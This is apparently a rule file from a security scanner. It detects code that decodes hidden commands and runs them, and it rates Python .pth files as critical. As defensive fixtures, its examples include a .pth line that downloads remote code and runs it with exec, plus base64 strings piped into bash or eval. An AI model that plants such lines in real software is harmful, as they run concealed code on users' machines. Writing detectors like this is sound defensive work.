import { defineRule } from '../../rule.ts';
import { trapHits } from './sourceHits.ts';

export const decodeAndRun = defineRule({
  id: 'decode-and-run',
  title: 'Decodes hidden commands and runs them',
  severity: 'high',
  confidence: 'high',
  category: 'code',
  applies: 'repository',
  cwe: 'CWE-506',
  why: 'Encoding hides what runs. Honest scripts have no reason to hide their commands.',
  remedy: 'Write commands in plain text.',
  *check(facts) {
    // Python runs such a line whenever it starts, whatever is started.
    for (const hit of trapHits(facts, 'decode-and-run'))
      yield hit.place.path.endsWith('.pth') ? { ...hit, severity: 'critical', confidence: 'high' } : hit;
  },
  examples: {
    bad: [
      { files: { 'src/a.pth': "import urllib.request; exec(urllib.request.urlopen('https://a.dev/p').read())\n" } },
      { files: { 'install.sh': 'echo "ZWNobyBoaQo=" | base64 -d | bash\n' } },
      { files: { 'x.sh': 'eval "$(echo ZWNobyBoaQo= | base64 --decode)"\n' } },
    ],
    good: [
      { files: { 'cert.sh': 'echo "$CERT" | base64 -d > cert.pem\n' } },
      { files: { 'k8s.sh': 'kubectl get secret x -o jsonpath={.data.p} | base64 -d\n' } },
    ],
  },
});
